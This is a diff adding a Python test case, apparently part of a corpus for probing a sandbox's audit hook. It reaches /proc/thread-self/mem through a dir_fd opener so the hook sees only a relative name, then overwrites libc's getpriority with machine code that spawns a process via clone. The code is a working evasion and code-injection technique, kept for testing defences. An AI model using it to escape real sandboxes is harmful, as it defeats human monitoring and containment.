@@ -1,0 +1,39 @@
+# family: procmem
+# reaches: process
+# layer: runtime
+# static: missed
+# open() with an opener: FileIO audits the relative name ("mem", inside the workspace by the hook's
+# reading), the opener resolves it against /proc/thread-self. The injected code starts a process
+# with clone(CLONE_VM|CLONE_VFORK).
+import os
+import struct
+
+
+def libc_function(name):
+    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
+    for line in open("/proc/self/maps"):
+        f = line.split()
+        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
+            base, path = int(f[0].split("-")[0], 16), f[5]
+            break
+    data = open(path, "rb").read()
+    shoff, = struct.unpack_from("<Q", data, 0x28)
+    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
+    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
+    for s in sections:
+        if s[1] == 11:  # SHT_DYNSYM
+            strtab = sections[s[6]][4]
+            for off in range(s[4], s[4] + s[5], 24):
+                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
+                start = strtab + st_name
+                if data[start:data.index(b"\0", start)] == name:
+                    return base + value
+    raise LookupError(name)
+
+
+base = os.open("/proc/thread-self", os.O_RDONLY | os.O_DIRECTORY)
+with open("mem", "r+b", buffering=0, opener=lambda name, flags: os.open(name, flags, dir_fd=base)) as mem:
+    mem.seek(libc_function(b"getpriority"))
+    # clone(CLONE_VM|CLONE_VFORK|SIGCHLD, NULL); in the child: exit(0); ret
+    mem.write(bytes.fromhex("bf1141000031f631d24531d24531c0b8380000000f0585c07509b83c00000031ff0f05c3"))
+print("clone returned", os.getpriority(0, 0))
